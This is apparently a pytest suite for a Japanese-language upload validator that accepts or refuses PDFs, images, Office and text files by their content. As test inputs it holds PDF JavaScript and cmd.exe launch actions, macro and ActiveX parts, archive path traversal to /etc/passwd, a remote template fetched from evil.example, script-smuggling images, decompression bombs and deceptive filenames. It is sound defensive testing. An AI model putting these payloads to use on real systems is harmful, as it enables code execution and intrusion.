"""What may be handed in: judged by content, whatever the name says."""

import io
import zipfile
import zlib

import pytest
from PIL import Image

from kyodo.kernel.policy import Refused
from kyodo.offices.papers.actions import examine

from .conftest import MAIN, office, pdf_with, picture


@pytest.mark.parametrize(
    ("name", "content", "media_type"),
    [
        ("a.pdf", pdf_with(b""), "application/pdf"),
        ("A.PDF", pdf_with(b"/OpenAction [3 0 R /Fit]"), "application/pdf"),
        ("a.jpg", picture("JPEG"), "image/jpeg"),
        ("a.jpeg", picture("JPEG", mode="CMYK"), "image/jpeg"),
        ("a.png", picture("PNG", mode="RGBA"), "image/png"),
        ("a.webp", picture("WEBP"), "image/webp"),
        ("a.docx", office("docx"), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("a.xlsx", office("xlsx"), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("a.pptx", office("pptx"), "application/vnd.openxmlformats-officedocument.presentationml.presentation"),
        ("a.txt", "こんにちは\r\n".encode(), "text/plain"),
        ("a.txt", "㈱髙島屋".encode("cp932"), "text/plain"),
        ("a.csv", "\ufeff団体,金額\n".encode(), "text/csv"),
        ("a.csv", "団体\t金額\n".encode("utf-16"), "text/csv"),
    ],
)
def test_a_file_that_is_what_it_says_is_taken(name, content, media_type):
    assert examine(name, content).media_type == media_type


@pytest.mark.parametrize(
    "name", ["a.exe", "a.html", "a.svg", "a.zip", "a.docm", "a.heic", "a", "pdf", ".pdf", "a.pdf.js", "a.gif"]
)
def test_other_formats_are_refused_with_those_that_are_taken(name):
    with pytest.raises(Refused, match="使えるのは pdf、jpg") as refusal:
        examine(name, pdf_with(b""))
    assert refusal.value.field == "file"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.pdf", b"<html><script>"),
        ("a.pdf", b"junk" + pdf_with(b"")),
        ("a.pdf", b"%PDF-1.7 cut off"),
        ("a.pdf", picture("PNG")),
        ("a.jpg", picture("PNG")),
        ("a.png", b"GIF89a<script>alert(1)</script>"),
        ("a.png", picture("PNG")[:60]),
        ("a.webp", b""),
        ("a.docx", office("xlsx")),
        ("a.docx", b"PK\x03\x04 no archive"),
        ("a.xlsx", pdf_with(b"")),
        ("a.txt", b"\x00\x01\x02binary"),
        ("a.txt", picture("PNG")),
        ("a.csv", b"MZ\x90\x00\x03\x00"),
    ],
)
def test_a_file_that_is_not_what_it_says_is_refused(name, content):
    with pytest.raises(Refused, match=r"読めません|違います|空です"):
        examine(name, content)


@pytest.mark.parametrize(("form", "name"), [("JPEG", "a.jpg"), ("WEBP", "a.webp"), ("PNG", "a.png")])
def test_a_picture_loses_where_and_with_what_it_was_taken_but_stays_upright(form, name):
    kept = examine(name, picture(form, exif=True)).data
    assert b"SecretCamera" not in kept
    with Image.open(io.BytesIO(kept)) as image:
        assert not dict(image.getexif())
        assert image.size == (30, 40), "turned as the camera said"


def test_what_hides_behind_a_picture_is_gone():
    assert b"<script>" not in examine("a.png", picture("PNG") + b"<script>alert(1)</script>").data


def test_a_transparent_picture_stays_transparent():
    palette = Image.new("P", (2, 2), 0)
    file = io.BytesIO()
    palette.save(file, "PNG", transparency=0)
    with Image.open(io.BytesIO(examine("a.png", file.getvalue()).data)) as image:
        assert image.convert("RGBA").getpixel((0, 0)) == (0, 0, 0, 0)


def test_a_picture_of_too_many_pixels_is_refused_before_it_is_unpacked():
    with pytest.raises(Refused, match="100万画素まで"):
        examine("a.png", picture("PNG", size=(1001, 1000), mode="1"), megapixels=1)
    huge = bytearray(picture("PNG", mode="1"))
    huge[16:24] = (60000).to_bytes(4, "big") * 2
    huge[29:33] = zlib.crc32(bytes(huge[12:29])).to_bytes(4, "big")
    with pytest.raises(Refused, match="画像"):
        examine("a.png", bytes(huge))


def packed(inside: bytes) -> bytes:
    return (
        b"/X 2 0 R >>\nendobj\n2 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n"
        + zlib.compress(inside)
        + b"\nendstream"
    )


@pytest.mark.parametrize(
    "inside",
    [
        b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
        b"/OpenAction << /S /J#61vaScript /JS (x) >>",
        b"/AA << /O << /S /Launch /F (cmd.exe) >> >>",
        b"/Names << /EmbeddedFiles 3 0 R >>",
        b"/EF << /F << /Type /EmbeddedFile >> >>",
        b"/Subtype /RichMedia ",
        packed(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
    ],
)
def test_a_pdf_that_does_something_is_refused(inside):
    with pytest.raises(Refused, match="プログラムや添付"):
        examine("a.pdf", pdf_with(inside))


def test_a_locked_pdf_is_refused_since_nobody_can_look_into_it():
    with pytest.raises(Refused, match="保護"):
        examine("a.pdf", pdf_with(b"/Encrypt 5 0 R"))


def test_a_pdf_that_unpacks_without_end_is_refused():
    bomb = packed(b"\0" * (65 * 1024 * 1024))
    with pytest.raises(Refused, match="複雑すぎて"):
        examine("a.pdf", pdf_with(bomb))


@pytest.mark.parametrize("kind", list(MAIN))
@pytest.mark.parametrize(
    "change",
    [
        {"parts": {"word/vbaProject.bin": b"x"}},
        {"parts": {"xl/macrosheets/sheet1.xml": b"x"}},
        {"parts": {"word/activeX/activeX1.xml": b"x"}},
        {"types": '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'},
        {"main": "application/vnd.ms-word.document.macroEnabled.main+xml"},
    ],
)
def test_an_office_file_with_macros_is_refused(kind, change):
    with pytest.raises(Refused, match="マクロ"):
        examine(f"a.{kind}", office(kind, **change))


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "a\\..\\b", "C:/x", "word/../../x"])
def test_an_archive_that_points_outside_is_refused(name):
    with pytest.raises(Refused, match="外の場所"):
        examine("a.docx", office("docx", parts={name: b"x"}))


def test_an_archive_of_too_many_or_too_large_parts_is_refused():
    with pytest.raises(Refused, match="大きすぎます"):
        examine("a.docx", office("docx", parts={f"p{n}": b"" for n in range(3001)}))
    with pytest.raises(Refused, match="大きすぎます"):
        examine("a.docx", office("docx", parts={"big.xml": b"\0" * (201 * 1024 * 1024)}))


def test_a_document_that_loads_a_template_from_elsewhere_is_refused():
    link = b'<Relationship Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    with pytest.raises(Refused, match="外部のひな型"):
        examine("a.docx", office("docx", parts={"word/_rels/settings.xml.rels": link}))


def test_a_plain_archive_is_no_office_file():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("a.txt", "x")
    with pytest.raises(Refused, match="Office文書として"):
        examine("a.docx", file.getvalue())


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("C:\\Users\\花子\\議事録.pdf", "議事録.pdf"),
        ("../../x/会議.pdf", "会議.pdf"),
        ("か\u3099くしゅう.pdf", "がくしゅう.pdf"),
        ("髙橋 様  資料.pdf", "髙橋 様 資料.pdf"),
        ("あ" * 300 + ".pdf", "あ" * 150 + ".pdf"),
    ],
)
def test_names_are_kept_as_people_know_them(given, kept):
    assert examine(given, pdf_with(b"")).name == kept


@pytest.mark.parametrize("name", ["a\u202efdp.exe.pdf", "a\x00.pdf", "a\u2066.pdf"])
def test_names_that_deceive_the_eye_are_refused(name):
    with pytest.raises(Refused, match="ファイル名"):
        examine(name, pdf_with(b""))
